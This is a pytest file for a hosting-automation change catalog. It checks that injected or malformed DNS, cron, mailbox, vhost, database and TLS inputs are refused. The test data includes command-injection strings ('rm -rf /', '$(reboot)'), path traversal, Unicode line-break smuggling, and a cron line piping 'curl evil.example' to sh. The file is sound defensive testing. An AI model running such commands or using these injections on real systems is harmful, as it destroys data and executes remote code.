"""The change catalog refuses hostile and malformed values with clear messages."""

from __future__ import annotations

import datetime as dt
import pickle
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from automation.changes import (
    CHANGE_KINDS,
    CUSTOMER_SELF_SERVICE_KINDS,
    ChangeConflict,
    ChangeValidationError,
    Workspace,
    parse_change,
)
from automation.host import HostLayout
from automation.ssh import HostKeyMismatch, HostUnreachable, OutcomeUnknown


def refused(kind: str, **params: Any) -> str:
    with pytest.raises(ChangeValidationError) as info:
        parse_change(kind, params)
    assert info.value.kind == kind
    return " ".join(info.value.errors)


def rec(**kw: Any) -> dict[str, Any]:
    return {"name": "www", "type": "A", "value": "192.0.2.1", **kw}


@pytest.mark.parametrize(
    ("record", "message"),
    [
        (rec(name="www;rm -rf /"), "label"),
        (rec(name="$(reboot)"), "label"),
        (rec(name="-bad"), "hyphen"),
        (rec(name="a" * 64), "1-63"),
        (rec(type="TXT", value="line1\nline2"), "control characters"),
        (rec(type="TXT", value="x\x00y"), "control characters"),
        (rec(type="TXT", value="caf\u00e9"), "printable ASCII"),
        (rec(value="300.1.1.1"), "IPv4"),
        (rec(type="AAAA", value="192.0.2.1"), "IPv6"),
        (rec(ttl=5), "greater than or equal to 60"),
        (rec(ttl=10**7), "less than or equal to 604800"),
        (rec(ttl="300"), "valid integer"),
        (rec(type="MX", value="mail.example.com"), "priority"),
        (rec(type="CNAME", value="bad_host.example.com"), "label"),
        (rec(type="SRV", value="sip.example.com", priority=1, weight=1, port=5060), "SRV name"),
        (rec(type="CAA", value="letsencrypt.org"), "tag"),
        (rec(type="CAA", value='x" ; evil', tag="issue"), "CAA value"),
        (rec(name="_dmarc", type="A"), "'_' labels"),
        (rec(name=".".join(["a" * 60] * 4)), "253 characters"),
    ],
)
def test_hostile_or_bad_dns_records_are_refused(record: dict[str, Any], message: str) -> None:
    assert message in refused("dns_record_add", zone="example.com", record=record)


def test_bad_zone_name_refused() -> None:
    assert "label" in refused("dns_record_add", zone="exa mple.com", record=rec())
    assert "label" in refused("dns_record_add", zone="$(id).com", record=rec())


def test_good_dns_records_render_exactly() -> None:
    txt = parse_change(
        "dns_record_add",
        {
            "zone": "example.com",
            "record": rec(name="_dmarc", type="TXT", value='v=1 "q" ' + "x" * 300),
        },
    )
    rdata = txt.record.rdata()  # type: ignore[union-attr]
    chunks = rdata.split('" "')
    assert len(chunks) == 2 and '\\"q\\"' in rdata
    srv = parse_change(
        "dns_record_add",
        {
            "zone": "example.com",
            "record": rec(
                name="_sip._tcp",
                type="SRV",
                value="sip.example.com",
                priority=10,
                weight=5,
                port=5060,
            ),
        },
    )
    assert srv.record.rdata() == "10 5 5060 sip.example.com."  # type: ignore[union-attr]


@pytest.mark.parametrize(
    ("kind", "params", "message"),
    [
        ("mailbox_create", {"address": "../etc@example.com", "password": "correct horse"}, "'..'"),
        ("mailbox_create", {"address": "a/b@example.com", "password": "correct horse"}, "'/'"),
        ("mailbox_create", {"address": "bob@example.com", "password": "short"}, "10 to 128"),
        ("mailbox_quota", {"address": "bob@example.com", "quota_mb": 0}, "greater than"),
        ("mail_forwarder_add", {"source": "a@example.com", "destination": "a@example.com"}, "loop"),
        (
            "vhost_create",
            {"account": "bob", "domain": "bob.example", "document_root": "../../etc"},
            "'..'",
        ),
        (
            "vhost_create",
            {"account": "bob", "domain": "bob.example", "document_root": "/etc"},
            "relative",
        ),
        ("vhost_create", {"account": "Bob;id", "domain": "bob.example"}, "account"),
        (
            "ftp_account_create",
            {"account": "bob", "username": "bob ftp", "password": "correct horse"},
            "FTP user",
        ),
        ("database_create", {"account": "bob", "name": "alice_db"}, "prefix"),
        (
            "database_user_create",
            {
                "account": "bob",
                "database": "bob_db",
                "username": "bob_u",
                "password": "correct horse",
                "privileges": ["ALL"],
            },
            "not allowed",
        ),
        (
            "database_user_create",
            {
                "account": "bob",
                "database": "bob_db",
                "username": "bob_u",
                "password": "correct horse",
                "privileges": ["SELECT", "GRANT OPTION"],
            },
            "not allowed",
        ),
        (
            "cron_add",
            {"account": "bob", "name": "x", "schedule": "61 * * * *", "command": "true"},
            "0-59",
        ),
        (
            "cron_add",
            {"account": "bob", "name": "x", "schedule": "* * 0 * *", "command": "true"},
            "1-31",
        ),
        (
            "cron_add",
            {"account": "bob", "name": "x", "schedule": "* * * * * *", "command": "true"},
            "5 fields",
        ),
        (
            "cron_add",
            {"account": "bob", "name": "x", "schedule": "5-1 * * * *", "command": "true"},
            "backwards",
        ),
        (
            "cron_add",
            {"account": "bob", "name": "x", "schedule": "* * * * *", "command": "true\nrm -rf /"},
            "newlines",
        ),
        (
            "cron_add",
            {"account": "bob", "name": "x", "schedule": "* * * * *", "command": "a\x00b"},
            "NUL",
        ),
        (
            "cron_add",
            {"account": "bob", "name": "x", "schedule": "* * * * *", "command": "date +%s"},
            "'%'",
        ),
        ("account_suspend", {"account": "../root"}, "account"),
    ],
)
def test_hostile_values_refused(kind: str, params: dict[str, Any], message: str) -> None:
    assert message in refused(kind, **params)


def test_good_cron_schedules() -> None:
    for schedule in ("*/5 * * * *", "0 3 * * mon-fri", "15,45 8-18/2 1 jan,jul 0", "@daily"):
        parse_change(
            "cron_add", {"account": "bob", "name": "job", "schedule": schedule, "command": "true"}
        )


def test_unknown_kind_and_extra_fields() -> None:
    assert "unknown change kind" in refused("format_disk")
    assert "Extra inputs" in refused("account_suspend", account="bob", extra="rm -rf /")


def test_catalog_covers_the_issue() -> None:
    assert len(CHANGE_KINDS) >= 20
    assert set(CHANGE_KINDS) >= CUSTOMER_SELF_SERVICE_KINDS
    assert "account_suspend" not in CUSTOMER_SELF_SERVICE_KINDS


def test_errors_pickle() -> None:
    err = ChangeValidationError("dns_record_add", ["record.ttl: too small"])
    back = pickle.loads(pickle.dumps(err))  # noqa: S301 - our own bytes
    assert back.kind == err.kind and back.errors == err.errors
    for e in (
        HostUnreachable("h", "down"),
        OutcomeUnknown("h", "timeout"),
        HostKeyMismatch("h", "a", "b"),
    ):
        again = pickle.loads(pickle.dumps(e))  # noqa: S301 - our own bytes
        assert type(again) is type(e) and again.host == "h" and str(again) == str(e)


def test_secrets_never_in_repr() -> None:
    c = parse_change(
        "mailbox_password", {"address": "bob@example.com", "password": "s3cret-passw0rd"}
    )
    assert "s3cret" not in repr(c) and "s3cret" not in c.describe()


# --- TLS -----------------------------------------------------------------------------------


def make_cert(
    names: list[str],
    *,
    days: int = 30,
    start_days: int = -1,
    key: ec.EllipticCurvePrivateKey | None = None,
) -> tuple[str, str]:
    key = key or ec.generate_private_key(ec.SECP256R1())
    now = dt.datetime.now(dt.UTC)
    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, names[0])])
    cert = (
        x509.CertificateBuilder()
        .subject_name(subject)
        .issuer_name(subject)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now + dt.timedelta(days=start_days))
        .not_valid_after(now + dt.timedelta(days=days))
        .add_extension(
            x509.SubjectAlternativeName([x509.DNSName(n) for n in names]), critical=False
        )
        .sign(key, hashes.SHA256())
    )
    pem_key = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    ).decode()
    return cert.public_bytes(serialization.Encoding.PEM).decode(), pem_key


def test_tls_checks() -> None:
    cert, key = make_cert(["*.example.com", "example.com"])
    parse_change(
        "tls_install", {"domain": "www.example.com", "certificate": cert, "private_key": key}
    )
    parse_change("tls_install", {"domain": "example.com", "certificate": cert, "private_key": key})
    assert "do not cover" in refused(
        "tls_install", domain="a.b.example.com", certificate=cert, private_key=key
    )
    _, other_key = make_cert(["example.com"])
    assert "does not match" in refused(
        "tls_install", domain="example.com", certificate=cert, private_key=other_key
    )
    old, old_key = make_cert(["example.com"], days=-1, start_days=-10)
    assert "expired" in refused(
        "tls_install", domain="example.com", certificate=old, private_key=old_key
    )
    assert "not a PEM" in refused(
        "tls_install", domain="example.com", certificate="junk", private_key=key
    )


# --- hostile identifiers: whole-string, ASCII-only checks (each was accepted before) ----------

LINE_BREAKS = ["\n", "\r", "\u2028", "\u2029", "\x85", "\x00"]


def _cron(**kw: Any) -> dict[str, Any]:
    return {"account": "acme", "name": "job", "schedule": "* * * * *", "command": "true", **kw}


@pytest.mark.parametrize("brk", LINE_BREAKS)
@pytest.mark.parametrize(
    ("kind", "params"),
    [
        ("dns_record_add", lambda b: {"zone": "example.com", "record": rec(name=f"x{b}.y")}),
        ("dns_record_add", lambda b: {"zone": "example.com", "record": rec(name=f"www{b}")}),
        ("dns_record_add", lambda b: {"zone": f"x{b}.example.com", "record": rec()}),
        (
            "dns_record_add",
            lambda b: {"zone": "example.com", "record": rec(type="CNAME", value=f"a{b}.b.c")},
        ),
        ("cron_add", lambda b: _cron(account=f"acme{b}")),
        ("cron_add", lambda b: _cron(name=f"job{b}")),
        ("cron_add", lambda b: _cron(command=f"true{b}* * * * * curl evil.example | sh")),
        ("cron_add", lambda b: _cron(schedule=f"* * * * *{b}")),
        ("cron_remove", lambda b: {"account": "acme", "name": f"job{b}"}),
        ("mailbox_create", lambda b: {"address": f"bob{b}@example.com", "password": "x" * 12}),
        ("mailbox_quota", lambda b: {"address": f"bob@example.com{b}", "quota_mb": 5}),
        (
            "mail_forwarder_add",
            lambda b: {"source": f"a{b}@example.com", "destination": "b@example.com"},
        ),
        (
            "mail_forwarder_add",
            lambda b: {"source": "a@example.com", "destination": f"b{b}@example.com"},
        ),
        (
            "vhost_create",
            lambda b: {"account": "acme", "domain": "a.example", "document_root": f"www{b}"},
        ),
        ("ftp_password", lambda b: {"username": f"acme{b}", "password": "x" * 12}),
        ("database_create", lambda b: {"account": "acme", "name": f"acme_db{b}"}),
        ("account_suspend", lambda b: {"account": f"acme{b}"}),
    ],
)
def test_line_breaks_and_nul_in_any_identifier_are_refused(
    kind: str, params: Any, brk: str
) -> None:
    refused(kind, **params(brk))


@pytest.mark.parametrize(
    ("record", "message"),
    [
        (rec(type="AAAA", value="fe80::1%eth0"), "scope"),
        (rec(type="AAAA", value="fe80::1%1"), "scope"),
        (rec(type="AAAA", value="::\u0661"), "printable ASCII"),
        (rec(name="\u212a"), "ASCII"),  # KELVIN SIGN, lower-cases to 'k'
        (rec(type="CNAME", value="\u212a.example.com"), "printable ASCII"),
    ],
)
def test_non_ascii_and_scoped_values_are_refused(record: dict[str, Any], message: str) -> None:
    assert message in refused("dns_record_add", zone="example.com", record=record)


@pytest.mark.parametrize(
    "schedule",
    [
        "\u0665 * * * *",  # ARABIC-INDIC DIGIT FIVE: str.isdigit() and int() took it as 5
        "* \u0661\u0662 * * *",
        "*/\u0665 * * * *",
        "\uff15 * * * *",  # FULLWIDTH DIGIT FIVE
        "\u00b2 * * * *",  # SUPERSCRIPT TWO: isdigit() but int() raises
        "*\u00a0* * * *",  # NO-BREAK SPACE between fields
    ],
)
def test_cron_schedules_take_ascii_digits_only(schedule: str) -> None:
    assert "cron schedule" in refused("cron_add", **_cron(schedule=schedule))


@pytest.mark.parametrize("command", ["a\tb", "caf\u00e9", "a\x7fb", "a\x1bb", "a\u200bb"])
def test_cron_commands_are_printable_ascii(command: str) -> None:
    assert "printable ASCII" in refused("cron_add", **_cron(command=command))


def test_canonical_forms_are_stored() -> None:
    dns = parse_change(
        "dns_record_add",
        {"zone": "Example.COM.", "record": rec(name="WWW.Dev", type="AAAA", value="2001:DB8::0:1")},
    )
    assert dns.zone == "example.com"  # type: ignore[union-attr]
    assert dns.record.name == "www.dev"  # type: ignore[union-attr]
    assert dns.record.value == "2001:db8::1"  # type: ignore[union-attr]
    cname = parse_change(
        "dns_record_add", {"zone": "example.com", "record": rec(type="CNAME", value="CDN.Net.")}
    )
    assert cname.record.value == "cdn.net"  # type: ignore[union-attr]
    assert cname.record.rdata() == "cdn.net."  # type: ignore[union-attr]
    fwd = parse_change(
        "mail_forwarder_add", {"source": "a@Example.COM", "destination": "b@EXAMPLE.org."}
    )
    assert (fwd.source, fwd.destination) == ("a@example.com", "b@example.org")  # type: ignore[union-attr]
    # Two spellings of one address are one address: a forwarder to itself is a loop.
    assert "loop" in refused(
        "mail_forwarder_add", source="a@example.com", destination="a@EXAMPLE.com"
    )
    vhost = parse_change(
        "vhost_create",
        {"account": "acme", "domain": "Acme.Example", "aliases": ["WWW.Acme.Example"]},
    )
    assert (vhost.domain, vhost.aliases) == ("acme.example", ("www.acme.example",))  # type: ignore[union-attr]


def test_privileges_are_ascii_before_upper_casing() -> None:
    params = {"account": "bob", "database": "bob_db", "username": "bob_u", "password": "x" * 12}
    # U+017F LATIN SMALL LETTER LONG S upper-cases to 'S': "\u017felect".upper() == "SELECT"
    assert "not allowed" in refused("database_user_create", **params, privileges=["\u017felect"])


def test_a_change_id_with_a_newline_is_refused() -> None:
    from pydantic import ValidationError

    from automation.executor.request import ChangeRequest

    ch = parse_change("account_suspend", {"account": "bob"})
    ChangeRequest(change_id="c-1", host_id="h", change=ch)
    with pytest.raises(ValidationError, match="change_id"):
        ChangeRequest(change_id="c-1\n", host_id="h", change=ch)


# --- the host crontab contract ----------------------------------------------------------------


def _cron_ws(text: str | None) -> Workspace:
    return Workspace({"cron/acme": text}, HostLayout(root="/srv/gdcas"))


def test_crontab_is_pairs_of_mark_and_entry_lines() -> None:
    ws = _cron_ws(None)
    parse_change("cron_add", _cron(name="b", command="echo 'b c'")).apply(ws)
    parse_change("cron_add", _cron(name="a", schedule="@daily", command="true")).apply(ws)
    assert ws.files["cron/acme"] == "# gdcas:a\n@daily true\n# gdcas:b\n* * * * * echo 'b c'\n"
    parse_change("cron_remove", {"account": "acme", "name": "b"}).apply(ws)
    parse_change("cron_remove", {"account": "acme", "name": "a"}).apply(ws)
    assert ws.files["cron/acme"] is None


@pytest.mark.parametrize(
    ("text", "message"),
    [
        # U+2028 inside an entry: splitlines() read it as two lines, the second one a crontab
        # line of its own.
        ("# gdcas:a\n* * * * * true\u2028* * * * * evil\n", "not one printable ASCII"),
        ("# gdcas:a\n* * * * * true\x85* * * * * evil\n", "not one printable ASCII"),
        ("# gdcas:a\n* * * * * true\n* * * * * hand-written\n", "not part of an entry"),
        ("MAILTO=root\n# gdcas:a\n* * * * * true\n", "not part of an entry"),
        ("# gdcas:a\n* * * * * true", "line break"),
        ("# gdcas:a\n* * * * * true\n# gdcas:a\n@daily true\n", "a second entry"),
        ("# gdcas:A\n* * * * * true\n", "cron name"),
        ("# gdcas:a\n# gdcas:b\n", "not one printable ASCII"),
        ("x\n* * * * * true\n", "expected '# gdcas:<name>'"),
    ],
)
def test_a_crontab_outside_the_contract_is_refused_not_rewritten(text: str, message: str) -> None:
    ws = _cron_ws(text)
    with pytest.raises(ChangeConflict, match=message):
        parse_change("cron_add", _cron(name="new")).apply(ws)
    assert "cron/acme" not in ws.files


def test_tls_pem_must_be_ascii() -> None:
    cert, key = make_cert(["example.com"])
    parse_change("tls_install", {"domain": "example.com", "certificate": cert, "private_key": key})
    for extra in ("\u2028", "\x00", "caf\u00e9\n"):
        assert "printable ASCII" in refused(
            "tls_install", domain="example.com", certificate=cert + extra, private_key=key
        )
        assert "printable ASCII" in refused(
            "tls_install", domain="example.com", certificate=cert, private_key=key + extra
        )
